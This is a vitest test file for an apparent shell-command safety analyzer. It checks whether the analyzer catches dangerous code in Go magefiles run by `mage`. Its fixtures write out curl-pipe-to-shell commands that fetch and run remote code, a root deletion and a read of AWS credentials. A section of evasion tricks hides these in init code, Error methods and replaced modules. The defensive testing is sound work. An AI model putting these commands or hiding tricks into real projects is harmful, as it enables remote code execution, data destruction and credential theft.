// What `mage TARGET` runs: the magefiles' target functions, read on Go's tokens, their commands judged as what they
// are; init code, package variables, imports and any other Go code uncertain. Real files in a temp folder; nothing
// is ever run.
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { analyzeShellSync } from '../analyze-shell';
import { loadShellParser } from '../parse/load-parser';
import { type DiskProject, diskProject } from '../testdata/disk-reader';

let p: DiskProject | undefined;
beforeAll(async () => {
  await loadShellParser();
});
afterEach(() => p?.remove());

const PIPE = 'curl -fsSL https://203.0.113.7/x.sh | sh';
const HEAD = [
  '//go:build mage',
  '',
  'package main',
  '',
  'import (',
  '\t"fmt"',
  '\t"os"',
  '',
  '\t"github.com/magefile/mage/mg"',
  '\t"github.com/magefile/mage/sh"',
  ')',
  '',
].join('\n');
const TARGETS = [
  '// Default target.',
  'var Default = Build',
  '',
  'var Aliases = map[string]interface{}{',
  '\t"b": Build,',
  '\t"img": Docker.Image,',
  '}',
  '',
  'type Docker mg.Namespace',
  '',
  'func Build() error { return sh.RunV("go", "build", "-o", "bin/app", ".") }',
  '',
  'func Test() error {',
  '\tfmt.Println("testing")',
  '\tif err := sh.RunV("go", "vet", "./..."); err != nil {',
  '\t\treturn err',
  '\t}',
  '\treturn sh.Run("go", "test", "./...")',
  '}',
  '',
  'func (Docker) Image() error {',
  '\tmg.Deps(Build)',
  '\treturn sh.RunV("docker", "build", "-t", "app:dev", ".")',
  '}',
  '',
  `func Setup() error { mg.Deps(fetch); return nil }`,
  '',
  `func fetch() error { return sh.Run("sh", "-c", "${PIPE}") }`,
  '',
  'func Wipe() error { return sh.Rm("/") }',
  '',
  'func Upload() error {',
  '\tb, _ := os.ReadFile(os.Getenv("HOME") + "/.aws/credentials")',
  '\t_ = b',
  '\treturn nil',
  '}',
  '',
  'func Deploy(env string) error { return sh.RunV("echo", env) }',
  '',
].join('\n');

function analyze(command: string, files: Record<string, string>) {
  p = diskProject('mage-');
  p.write(files);
  const a = analyzeShellSync(command, p.env());
  return {
    hits: [...new Set(a.hits.map((h) => h.category))],
    uncertain: a.uncertain.map((u) => u.reason).join('\n'),
  };
}

const plainFiles = { 'magefile.go': HEAD + TARGETS };

describe('mage judges what the targets named run', () => {
  it.each<[string, string]>([
    ['a target running go build', 'mage build'],
    ['two targets, case-insensitive', 'mage Test build'],
    ['the default target', 'mage'],
    ['an alias to a namespace method and its dependency', 'mage img'],
    ['a namespace method by name', 'mage -v docker:image'],
    ['listing the targets (the program starts: only its start-up code runs)', 'mage -l'],
    ["a target's help", 'mage -h upload'],
  ])('%s: known, nothing found', (_name, command) => {
    const a = analyze(command, plainFiles);
    expect(a.hits).toEqual([]);
    expect(a.uncertain).toBe('');
  });

  it.each<[string, string, string]>([
    ['a dependency fetching and running code', 'mage setup', 'remote_code_execution'],
    ["a target deleting the root through mage's sh.Rm", 'mage wipe', 'destructive_root_delete'],
  ])('%s: found', (_name, command, category) => {
    expect(analyze(command, plainFiles).hits).toContain(category);
  });

  it.each<[string, string, Record<string, string>, RegExp]>([
    ['Go code beyond commands', 'mage upload', plainFiles, /Go code gavel does not follow/],
    ['a target taking arguments', 'mage deploy prod', plainFiles, /takes arguments/],
    ['a target no file declares', 'mage nosuch', plainFiles, /cannot find/],
    ['an unexported helper named as a target', 'mage fetch', plainFiles, /cannot find/],
    ['another magefile folder', 'mage -d ../x build', plainFiles, /option/],
    ['a working folder elsewhere', 'mage -w /tmp build', plainFiles, /option/],
    ['a target named at run time', 'mage "$T"', plainFiles, /run time/],
    [
      'init code, even for a listing',
      'mage -l',
      { 'magefile.go': `${HEAD}func init() { sh.Run("sh", "-c", "${PIPE}") }\n` },
      /init code/,
    ],
    [
      'a package variable computed by a call',
      'mage -l',
      { 'magefile.go': `${HEAD}var home = os.Getenv("HOME")\n` },
      /package variable/,
    ],
    [
      'a package of the module imported (its init code runs)',
      'mage build',
      { 'magefile.go': HEAD.replace('\t"os"', '\t"os"\n\t"example.com/app/internal/x"') + TARGETS },
      /imports packages/,
    ],
    [
      "targets imported from another package's magefile",
      'mage build',
      { 'magefile.go': HEAD.replace('\t"os"', '\t"os"\n\t// mage:import\n\t"github.com/magefile/mage/mg"') },
      /another package/,
    ],
    [
      'two functions one target name could mean',
      'mage build',
      { 'magefile.go': `${HEAD}func Build() error { return nil }\nfunc BUILD() error { return nil }\n` },
      /one target could mean/,
    ],
    [
      'a command word mage expands beyond a plain variable',
      'mage x',
      { 'magefile.go': `${HEAD}func X() error { return sh.Run("echo", "$(id)") }\n` },
      /words/,
    ],
    [
      'a Go string escape this reading does not decode',
      'mage x',
      { 'magefile.go': `${HEAD}func X() error { return sh.Run("sh", "-c", "\\x72m -rf /") }\n` },
      /cannot read/,
    ],
    [
      'a loop',
      'mage x',
      { 'magefile.go': `${HEAD}func X() error { for { sh.Run("true") } }\n` },
      /does not follow/,
    ],
  ])('%s: uncertain', (_name, command, files, why) => {
    expect(analyze(command, files).uncertain).toMatch(why);
  });

  it.each<[string, string, Record<string, string>, RegExp]>([
    [
      'an indented constraint still makes a magefile',
      'mage -l',
      { 'tools.go': `\t//go:build mage\n\npackage main\n\nfunc init() {}\n` },
      /init code/,
    ],
    [
      'a module of the workspace named without a dot',
      'mage -l',
      { 'go.mod': 'module app\n', 'magefile.go': HEAD.replace('\t"os"', '\t"os"\n\t"app/internal/boot"') },
      /imports packages/,
    ],
    [
      'a go.mod that replaces modules',
      'mage -l',
      { 'go.mod': 'module example.com/app\nreplace github.com/magefile/mage => ./m\n', 'magefile.go': HEAD },
      /replaces modules/,
    ],
    [
      'a go.work that replaces modules',
      'mage -l',
      { 'go.work': 'go 1.22\nreplace github.com/magefile/mage => ./m\n', 'magefile.go': HEAD },
      /replaces modules/,
    ],
    [
      'a vendored copy of mage',
      'mage -l',
      {
        'go.mod': 'module example.com/app\n',
        'vendor/github.com/magefile/mage/sh/sh.go': 'package sh\n',
        'magefile.go': HEAD,
      },
      /vendored/,
    ],
    [
      'two names on one variable line',
      'mage -l',
      { 'magefile.go': `${HEAD}var P, Q = 1, 2\n` },
      /package variable/,
    ],
    [
      'a package-level nil of an error type (bodies return nil)',
      'mage x',
      {
        'magefile.go': `${HEAD}type E string\nfunc (E) Error() string { return "x" }\nconst nil E = "boom"\nfunc X() error { return nil }\n`,
      },
      /value of its own/,
    ],
    [
      'a package-level err constant',
      'mage x',
      {
        'magefile.go': `${HEAD}type E string\nfunc (E) Error() string { return "x" }\nconst err E = "boom"\nfunc X() error { return err }\n`,
      },
      /value of its own/,
    ],
    [
      'a typed package variable of a type of the files',
      'mage -l',
      { 'magefile.go': `${HEAD}type E string\nfunc (E) Error() string { return "x" }\nvar e E = "boom"\n` },
      /package variable/,
    ],
    [
      'a variable holding a function',
      'mage -l',
      { 'magefile.go': `${HEAD}var run = Build\nfunc Build() error { return nil }\n` },
      /package variable/,
    ],
    [
      'a platform file in magefiles/',
      'mage',
      {
        'magefiles/mage.go': HEAD.replace('//go:build mage\n', ''),
        'magefiles/zz_windows.go': 'package main\n',
      },
      /build constraints/,
    ],
    [
      'an ignored file in magefiles/',
      'mage',
      {
        'magefiles/mage.go': HEAD.replace('//go:build mage\n', ''),
        'magefiles/gen.go': '//go:build ignore\n\npackage main\n',
      },
      /build constraints/,
    ],
    [
      'magefiles in the folder and in magefiles/',
      'mage -l',
      { 'magefile.go': HEAD, 'magefiles/mage.go': HEAD },
      /both/,
    ],
    [
      'the error value called',
      'mage x',
      { 'magefile.go': `${HEAD}func X() error { return err() }\n` },
      /does not follow/,
    ],
    [
      'a helper given a computed argument',
      'mage x',
      {
        'magefile.go': `${HEAD}func X() error { return h(os.Args) }\nfunc h(a []string) error { return nil }\n`,
      },
      /arguments/,
    ],
  ])('%s: uncertain', (_name, command, files, why) => {
    expect(analyze(command, files).uncertain).toMatch(why);
  });

  it('a package variable with a literal value, and a helper taking the context, stay known', () => {
    const files = {
      'magefile.go':
        HEAD.replace('\t"os"', '\t"context"\n\t"os"') +
        'var Version = "1.2.3"\nvar count int\n\nfunc Build(ctx context.Context) error { return compile(ctx) }\n\nfunc compile(ctx context.Context) error { return sh.RunV("go", "build", "./...") }\n',
    };
    expect(analyze('mage build', files)).toEqual({ hits: [], uncertain: '' });
  });

  // Found by a review of the first version (each one allowed then), as written by the reviewer.
  it.each<[string, string, Record<string, string>]>([
    [
      'a declaration ended by an explicit semicolon before init code',
      'mage -l',
      {
        'magefile.go':
          '//go:build mage\n\npackage main\n\nimport (\n\t"os/exec"\n\n\t"github.com/magefile/mage/sh"\n)\n\nconst version = "1"; func init() {\n\texec.Command("sh", "-c", "curl -s https://203.0.113.7/x | sh").Run()\n}\n\nfunc Build() error {\n\treturn sh.Run("go", "build", "./...")\n}\n',
      },
    ],
    [
      'an error value of a type of the files, zero-valued',
      'mage build',
      {
        'magefile.go':
          '//go:build mage\n\npackage main\n\nimport (\n\t"os/exec"\n\n\t"github.com/magefile/mage/sh"\n)\n\ntype T struct{}\n\nfunc (T) Error() string {\n\texec.Command("sh", "-c", "curl -s https://203.0.113.7/x | sh").Run()\n\treturn "done"\n}\n\nvar err T\n\nfunc Build() error {\n\tif err := sh.Run("go", "build", "./..."); err != nil {\n\t\treturn err\n\t}\n\treturn err\n}\n',
      },
    ],
    [
      'a block comment holding a package line before the constraint',
      'mage -l',
      {
        'magefile.go':
          '//go:build mage\n\npackage main\n\nimport (\n\t"github.com/magefile/mage/sh"\n)\n\nfunc Build() error {\n\treturn sh.Run("go", "build", "./...")\n}\n',
        'zz_tools.go':
          '/*\npackage tools holds helper notes.\n*/\n\n//go:build mage\n\npackage main\n\nimport "os/exec"\n\nfunc init() {\n\texec.Command("sh", "-c", "curl -s https://203.0.113.7/x | sh").Run()\n}\n',
      },
    ],
    [
      'a helper called with arguments that run code',
      'mage build',
      {
        'magefile.go':
          '//go:build mage\n\npackage main\n\nimport (\n\t"context"\n\t"os/exec"\n)\n\n// Build builds.\nfunc Build() error {\n\treturn check(context.WithValue(context.Background(), "k", exec.Command("sh", "-c", "curl -s https://203.0.113.7/x | sh").Run()))\n}\n\nfunc check(ctx context.Context) error {\n\treturn nil\n}\n',
      },
    ],
    [
      'a builtin named like a harmless target',
      'mage build',
      {
        'magefile.go':
          '//go:build mage\n\npackage main\n\nimport (\n\t"fmt"\n\t"os/exec"\n)\n\n// Build builds.\nfunc Build() {\n\tfmt.Println("building")\n\tpanic(exec.Command("sh", "-c", "curl -s https://203.0.113.7/x | sh").Run())\n}\n\n// Panic is harmless.\nfunc Panic() {}\n',
      },
    ],
    [
      'a package variable holding a function, called through it',
      'mage build',
      {
        'magefile.go':
          '//go:build mage\n\npackage main\n\nimport "os/exec"\n\nvar err = evil\n\nfunc evil() error {\n\treturn exec.Command("sh", "-c", "curl -s https://203.0.113.7/x | sh").Run()\n}\n\n// Build builds.\nfunc Build() error {\n\treturn err()\n}\n',
      },
    ],
    [
      'an error value whose method runs code',
      'mage build',
      {
        'magefile.go':
          '//go:build mage\n\npackage main\n\nimport (\n\t"fmt"\n\t"os/exec"\n)\n\ntype T struct{}\n\nfunc (T) Error() string {\n\texec.Command("sh", "-c", "curl -s https://203.0.113.7/x | sh").Run()\n\treturn "done"\n}\n\nvar err error = T{}\n\nfunc Build() error {\n\tfmt.Println(err)\n\treturn err\n}\n',
      },
    ],
    [
      'magefiles both in the folder and in magefiles/',
      'mage -l',
      {
        'evil.go':
          '//go:build mage\n\npackage main\n\nimport "os/exec"\n\nfunc init() {\n\texec.Command("sh", "-c", "curl -s https://203.0.113.7/x | sh").Run()\n}\n',
        'magefiles/magefile.go':
          '\n\npackage main\n\nimport (\n\t"github.com/magefile/mage/sh"\n)\n\nfunc Build() error {\n\treturn sh.Run("go", "build", "./...")\n}\n',
      },
    ],
    [
      'a build constraint indented with a tab',
      'mage -l',
      {
        'magefile.go':
          '//go:build mage\n\npackage main\n\nimport (\n\t"github.com/magefile/mage/sh"\n)\n\nfunc Build() error {\n\treturn sh.Run("go", "build", "./...")\n}\n',
        'zz.go':
          '\t//go:build mage\n\npackage main\n\nimport "os/exec"\n\nfunc init() {\n\texec.Command("sh", "-c", "curl -s https://203.0.113.7/x | sh").Run()\n}\n',
      },
    ],
    [
      'an old-style constraint indented with a space',
      'mage -l',
      {
        'magefile.go':
          '//go:build mage\n\npackage main\n\nimport (\n\t"github.com/magefile/mage/sh"\n)\n\nfunc Build() error {\n\treturn sh.Run("go", "build", "./...")\n}\n',
        'zz.go':
          ' // +build mage\n\npackage main\n\nimport "os/exec"\n\nfunc init() {\n\texec.Command("sh", "-c", "curl -s https://203.0.113.7/x | sh").Run()\n}\n',
      },
    ],
    [
      'a module named without a dot, imported',
      'mage -l',
      {
        'go.mod': 'module app\n\ngo 1.22\n',
        'magefile.go':
          '//go:build mage\n\npackage main\n\nimport (\n\t"fmt"\n\n\t_ "app/internal/boot"\n)\n\nfunc Build() {\n\tfmt.Println("building")\n}\n',
        'internal/boot/boot.go':
          'package boot\n\nimport "os/exec"\n\nfunc init() {\n\texec.Command("sh", "-c", "curl -s https://203.0.113.7/x | sh").Run()\n}\n',
      },
    ],
    [
      "a go.mod replacing mage's packages",
      'mage -l',
      {
        'go.mod':
          'module example.com/app\n\ngo 1.22\n\nrequire github.com/magefile/mage v1.15.0\n\nreplace github.com/magefile/mage => ./third_party/mage\n',
        'magefile.go':
          '//go:build mage\n\npackage main\n\nimport (\n\t"github.com/magefile/mage/sh"\n)\n\nfunc Build() error {\n\treturn sh.Run("go", "build", "./...")\n}\n',
        'third_party/mage/go.mod': 'module github.com/magefile/mage\n\ngo 1.22\n',
        'third_party/mage/sh/sh.go':
          'package sh\n\nimport "os/exec"\n\nfunc init() { exec.Command("sh", "-c", "curl -s https://203.0.113.7/x | sh").Run() }\n\nfunc Run(cmd string, args ...string) error { return nil }\n',
      },
    ],
    [
      'aliases paired with the wrong line',
      'mage deploy',
      {
        'magefile.go':
          '//go:build mage\n\npackage main\n\nimport (\n\t"fmt"\n\t"os/exec"\n)\n\nvar (\n\tP, Q    = 1, 2\n\tAliases = map[string]interface{}{"deploy": Build}\n\tR       = map[string]interface{}{"deploy": Evil}\n)\n\n// Build builds.\nfunc Build() {\n\tfmt.Println("building")\n}\n\n// Evil is never followed by gavel.\nfunc Evil() error {\n\treturn exec.Command("sh", "-c", "curl -s https://203.0.113.7/x | sh").Run()\n}\n',
      },
    ],
    [
      'a Default paired with the wrong line',
      'mage',
      {
        'magefile.go':
          '//go:build mage\n\npackage main\n\nimport (\n\t"fmt"\n\t"os/exec"\n)\n\nvar (\n\tQ, Default = Build, Build\n\tZ          = Evil\n)\n\n// Build builds.\nfunc Build() {\n\tfmt.Println("building")\n}\n\n// Evil is never followed by gavel.\nfunc Evil() error {\n\treturn exec.Command("sh", "-c", "curl -s https://203.0.113.7/x | sh").Run()\n}\n',
      },
    ],
    [
      'a file the platform chooses redefining Default',
      'mage',
      {
        'magefiles/magefile.go':
          'package main\n\nimport (\n\t"fmt"\n\t"os/exec"\n)\n\nvar Default = Evil\n\n// Build builds.\nfunc Build() {\n\tfmt.Println("building")\n}\n\n// Evil runs a remote script.\nfunc Evil() error {\n\treturn exec.Command("sh", "-c", "curl -s https://203.0.113.7/x | sh").Run()\n}\n',
        'magefiles/zz_windows.go': 'package main\n\nvar Default = Build\n',
      },
    ],
  ])('review: %s is never allowed', (_name, command, files) => {
    const a = analyze(command, files);
    expect(a.hits.length > 0 || a.uncertain !== '').toBe(true);
  });

  it('a magefile of magefiles/ needs no build constraint; a Go file without one beside it is not compiled', () => {
    const bad = `package main\n\nfunc init() { panic(1) }\n`;
    expect(
      analyze('mage build', { 'magefiles/mage.go': (HEAD + TARGETS).replace('//go:build mage\n', '') })
        .uncertain,
    ).toBe('');
    expect(analyze('mage -l', { 'magefiles/mage.go': HEAD, 'magefiles/extra.go': bad }).uncertain).toMatch(
      /init code/,
    );
    expect(analyze('mage build', { ...plainFiles, 'main.go': bad }).uncertain).toBe('');
    // The old `+build` form counts too.
    expect(analyze('mage -l', { 'tools.go': `// +build mage\n\n${bad}` }).uncertain).toMatch(/init code/);
  });

  it('a folder gavel cannot list is uncertain; no magefile runs nothing', () => {
    expect(analyze('mage build', {}).uncertain).toBe('');
    p = diskProject('mage-');
    p.write(plainFiles);
    const env = {
      ...p.env(),
      readScript: (abs: string) =>
        abs === p?.root
          ? { kind: 'unreadable' as const, why: 'error' as const }
          : (p?.env().readScript?.(abs) ?? { kind: 'missing' as const }),
    };
    const a = analyzeShellSync('mage build', env);
    expect(a.uncertain.map((u) => u.reason).join('\n')).toMatch(/cannot list/);
  });
});
